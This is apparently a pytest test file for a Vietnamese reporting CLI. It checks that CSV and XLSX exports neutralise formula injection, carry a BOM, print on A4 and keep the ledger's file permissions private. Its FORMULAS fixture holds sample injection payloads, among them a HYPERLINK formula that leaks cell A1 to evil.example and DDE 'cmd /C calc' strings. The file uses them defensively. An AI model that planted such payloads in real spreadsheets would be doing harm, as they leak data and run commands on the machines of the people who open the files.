"""Every file the office opens in Excel is safe to open: a text that looks like a formula stays a text (CSV and
XLSX, read back as other programs read them), a CSV file opens with its diacritics, the workbook prints readably,
and an exported file is readable as the user's umask says while the ledger and what it keeps stay private."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import stat
import sys
from pathlib import Path

import pytest
from conftest import write_config

from khoagiao_cli.config.paths import embedded_dir

#: a text beginning as a formula would, by each character spreadsheets read as the start of one
FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
}
POSIX = pytest.mark.skipif(sys.platform == "win32", reason="POSIX permission bits")

UNIT_NAME = '=HYPERLINK("http://evil.example","Sở Y tế")'


@pytest.fixture
def sly(cli, tmp_path, monkeypatch) -> Path:
    """A unit whose name is a formula, and receipts whose document numbers and notes begin like formulas."""
    units = (embedded_dir() / "units.yaml").read_text(encoding="utf-8")
    units = units.replace("    name: Sở Y tế\n", f"    name: '{UNIT_NAME}'\n", 1)
    assert UNIT_NAME in units
    folder = write_config(tmp_path / "cfg", units=units)
    monkeypatch.setenv("KHOAGIAO_CONFIG", str(folder))
    for n, (month, text) in enumerate(zip(("01", "02", "04", "05"), FORMULAS.values(), strict=True)):
        cli("submit", "syt", "monthly", "--period", f"2026-{month}", "--received", f"2026-{month}-1{n}",
            "--doc-number", text, "--note", text, "--as-of", "2026-05-30")
    cli("submit", "bhxh-kh", "monthly", "--period", "2026-01", "--received", "2026-01-12", "--doc-number",
        "'=quoted already", "--as-of", "2026-05-30")
    return folder


def _csv(cli, tmp_path: Path) -> tuple[bytes, list[dict[str, str]]]:
    out = tmp_path / "nam.csv"
    cli("export", "--format", "csv", "--year", "2026", "--as-of", "2026-05-30", "-o", str(out))
    data = out.read_bytes()
    return data, list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# ---------------------------------------------------------------------------- formula injection


def test_csv_writes_a_text_that_looks_like_a_formula_behind_a_quote(cli, sly, tmp_path) -> None:
    _, rows = _csv(cli, tmp_path)
    syt = [r for r in rows if r["unit"] == "syt"]
    assert {r["unit_name"] for r in syt} == {"'" + UNIT_NAME}
    docs = {r["period"]: r["doc_number"] for r in syt if r["report"] == "monthly" and r["doc_number"]}
    assert docs == {f"2026-{m}": "'" + text for m, text in zip(("01", "02", "04", "05"), FORMULAS.values(),
                                                               strict=True)}
    # a text that already begins with the quote gets one more, so that reading it back strips exactly one
    (bhxh,) = [r for r in rows if r["unit"] == "bhxh-kh" and r["doc_number"]]
    assert bhxh["doc_number"] == "''=quoted already"
    # numbers are numbers: a negative count of days is not quoted
    assert any(r["days_left"].startswith("-") and int(r["days_left"]) < 0 for r in rows)
    # nothing else a spreadsheet would read as a formula
    for r in rows:
        for value in r.values():
            assert not value or value[0] not in "=+@\t\r" and not (value[0] == "-" and not value[1:].isdigit()), r


def test_quoting_is_undone_by_exactly_one_quote() -> None:
    from khoagiao_cli.outputs.text import neutral, unneutral

    for text in ("=1+1", "+1", "-x", "@x", "\t=1", "\r=1", "'=1", "''", "'", "'abc", "abc", "", "-", "a=b"):
        assert unneutral(neutral(text)) == text, text
    assert neutral("'abc") == "'abc" and neutral("-") == "'-" and neutral("\t=1") == "'\t=1"
    assert unneutral("'abc") == "'abc"  # a quote the clerk typed in a sheet of their own is theirs


def test_import_reads_back_the_quoted_csv_as_the_ledger_held_it(cli, sly, tmp_path, isolated) -> None:
    data, _ = _csv(cli, tmp_path)
    before = {(e["unit"], e["period"]): (e["doc_number"], e["unit_name"]) for e in _events(isolated)}
    # the received reports only (an export lists what is still owed too): the lines as they were written
    lines = data.decode("utf-8-sig").splitlines(keepends=True)
    received = [line for line in lines[1:] if next(csv.reader([line]))[14]]
    sheet = tmp_path / "nhan.csv"
    sheet.write_bytes(b"\xef\xbb\xbf" + (lines[0] + "".join(received)).encode("utf-8"))
    (isolated / "data" / "khoagiao.sqlite3").rename(tmp_path / "old.sqlite3")
    cli("import", str(sheet), "--as-of", "2026-05-30")
    after = {(e["unit"], e["period"]): e["doc_number"] for e in _events(isolated)}
    assert after == {key: doc for key, (doc, _) in before.items()}


def test_xlsx_keeps_every_text_that_looks_like_a_formula_a_text(cli, sly, tmp_path) -> None:
    from openpyxl import load_workbook

    out = tmp_path / "so.xlsx"
    cli("export", "--format", "xlsx", "--year", "2026", "--as-of", "2026-05-30", "-o", str(out))
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {UNIT_NAME, *FORMULAS.values(), "'=quoted already"} <= texts
    # other readers see the text, not an empty cell where a formula's cached value would be
    values = {c.value for ws in load_workbook(out, data_only=True).worksheets for row in ws.iter_rows() for c in row}
    assert {UNIT_NAME, *FORMULAS.values()} <= values


def test_a_tab_or_carriage_return_an_old_ledger_holds_is_never_a_formula(cli, cfg, isolated, tmp_path) -> None:
    from openpyxl import load_workbook

    cli("submit", "syt", "q1", "--period", "2026-Q1", "--received", "2026-03-12", "--as-of", "2026-04-20")
    with sqlite3.connect(isolated / "data" / "khoagiao.sqlite3") as conn:
        for unit, doc in (("bhxh-kh", "\t=1+1"), ("sgddt", "\r=1+1")):
            conn.execute(
                "INSERT INTO events (kind, unit, report, period, received, doc_number, recorded_at, recorded_by)"
                " VALUES ('submit', ?, 'q1', '2026-Q1', '2026-03-18', ?, '2026-04-20T09:00:00+07:00', 'clerk')",
                (unit, doc))
    out = tmp_path / "nam.csv"
    cli("export", "--format", "csv", "--year", "2026", "--as-of", "2026-04-20", "-o", str(out))
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8-sig"), newline="")))
    docs = {r["unit"]: r["doc_number"] for r in rows if r["report"] == "q1" and r["doc_number"]}
    assert docs == {"bhxh-kh": "'\t=1+1", "sgddt": "␍=1+1"}
    book = tmp_path / "so.xlsx"
    cli("export", "--format", "xlsx", "--year", "2026", "--as-of", "2026-04-20", "-o", str(book))
    cells = [c for row in load_workbook(book).worksheets[1].iter_rows() for c in row]
    assert {(c.value, c.data_type) for c in cells if c.column == 8 and c.row > 1} >= {("\t=1+1", "s"), ("␍=1+1", "s")}


# ---------------------------------------------------------------------------- CSV for Excel


def test_a_csv_file_starts_with_a_bom_and_standard_output_does_not(cli, cfg, tmp_path) -> None:
    cli("submit", "syt", "q1", "--period", "2026-Q1", "--received", "2026-03-12", "--as-of", "2026-04-20")
    data, rows = _csv(cli, tmp_path)
    assert data.startswith(b"\xef\xbb\xbf" + b"channel,")  # UTF-8 with a BOM: Excel reads the diacritics
    assert rows[0]["unit_name"] and "Sở Y tế" in {r["unit_name"] for r in rows}
    piped = cli("export", "--format", "csv", "--year", "2026", "--as-of", "2026-05-30").stdout
    assert piped.startswith("channel,")  # a pipe to another program: no BOM in its first field
    assert data.decode("utf-8-sig") == piped


# ---------------------------------------------------------------------------- printing


def test_the_workbook_prints_readably(cli, cfg, tmp_path) -> None:
    from openpyxl import load_workbook

    cli("submit", "syt", "q1", "--period", "2026-Q1", "--received", "2026-03-12", "--as-of", "2026-04-20")
    out = tmp_path / "so.xlsx"
    cli("export", "--format", "xlsx", "--year", "2026", "--as-of", "2026-04-20", "-o", str(out))
    wb = load_workbook(out)
    year, events, scores = wb.worksheets
    for ws in wb.worksheets:
        assert ws.page_setup.orientation == "landscape" and int(ws.page_setup.paperSize) == 9  # A4
        assert "Tình hình đến ngày 20/04/2026" in ws.oddHeader.right.text, ws.title
        assert ws.oddHeader.left.text == "Ban Tuyên giáo và Dân vận Tỉnh ủy" and ws.oddFooter.right.text == "Trang &P/&N"
        assert ws.print_title_rows
        # never shrunk to fit the page: at its size (the events at 85 %, 9 pt), over as many pages as it takes
        assert not ws.sheet_properties.pageSetUpPr.fitToPage and not ws.page_setup.fitToWidth, ws.title
    assert [ws.page_setup.scale for ws in wb.worksheets] == [100, 85, 100]
    # the year: its 20 columns no longer at 4 pt; the heading rows and the unit columns repeat on every page
    assert year.print_title_rows == "$1:$2" and year.print_title_cols == "$A:$B"
    assert year.freeze_panes == "C3"
    # the legend: each colour beside its words, on every printed page (the first of the title rows)
    legend = {c.fill.fgColor.rgb[-6:]: c.value for c in year[1] if c.value and c.fill.fill_type == "solid"}
    assert legend == {"C6EFCE": "đúng hạn", "FFEB9C": "gửi muộn", "FFC7CE": "quá hạn", "FFF2CC": "sắp đến hạn",
                      "F2F2F2": "chưa đến hạn"}, legend
    assert [c.value for c in year[2]][:2] == ["Mã", "Đơn vị"]
    # the events repeat their number to the unit's name; the scorecard its rank to the name
    assert events.print_title_cols == "$A:$D" and scores.print_title_cols == "$A:$C"
    # the English workbook says the same in English
    cli("export", "--format", "xlsx", "--year", "2026", "--as-of", "2026-04-20", "-o", str(out), "--lang", "en")
    year = load_workbook(out).worksheets[0]
    assert "20/04/2026" in year.oddHeader.right.text and "As of" in year.oddHeader.right.text
    assert "on time" in {c.value for c in year[1]}


def test_the_workbook_s_own_import_still_finds_its_events_sheet(cli, cfg, tmp_path) -> None:
    cli("submit", "syt", "q1", "--period", "2026-Q1", "--received", "2026-03-12", "--as-of", "2026-04-20")
    out = tmp_path / "so.xlsx"
    cli("export", "--format", "xlsx", "--year", "2026", "--as-of", "2026-04-20", "-o", str(out))
    r = cli("import", str(out), "--as-of", "2026-04-20").stdout
    assert "Đọc trang tính 'Sự kiện', tiêu đề ở dòng 1." in r and "Bỏ qua 1 dòng đã có trong sổ: 2." in r, r


# ---------------------------------------------------------------------------- permissions


@POSIX
def test_exports_are_readable_as_the_umask_says_and_the_ledger_stays_private(cli, cfg, isolated, tmp_path) -> None:
    old = os.umask(0o022)
    try:
        attachment = tmp_path / "bc.pdf"
        attachment.write_bytes(b"%PDF-1.4 bao cao")
        cli("submit", "syt", "q1", "--period", "2026-Q1", "--received", "2026-03-12", "--file", str(attachment),
            "--as-of", "2026-04-20")
        written = []
        for fmt in ("csv", "json", "toml", "ics", "xlsx"):
            written.append(tmp_path / f"nam.{fmt}")
            cli("export", "--format", fmt, "--year", "2026", "--as-of", "2026-04-20", "-o", str(written[-1]))
        written.append(tmp_path / "cv.docx")
        cli("letter", "sgddt", "-o", str(written[-1]), "--as-of", "2026-04-20")
        for path in written:
            assert stat.S_IMODE(path.stat().st_mode) == 0o644, path.name
        cli("backup")
        data = isolated / "data"
        assert stat.S_IMODE((data / "khoagiao.sqlite3").stat().st_mode) == 0o600
        (backup,) = (data / "backups").glob("ledger-*.sqlite3")
        assert stat.S_IMODE(backup.stat().st_mode) == 0o600
        assert stat.S_IMODE((data / "backups").stat().st_mode) == 0o700
        for archive in (data / "khoagiao-files", data / "backups" / "khoagiao-files"):  # the backup's: a copy
            assert stat.S_IMODE(archive.stat().st_mode) == 0o700
            assert [stat.S_IMODE(f.stat().st_mode) for f in archive.iterdir()] == [0o600]
    finally:
        os.umask(old)


def _events(home: Path) -> list[dict]:
    with sqlite3.connect(home / "data" / "khoagiao.sqlite3") as conn:
        conn.row_factory = sqlite3.Row
        return [dict(r) for r in conn.execute("SELECT * FROM events ORDER BY id")]
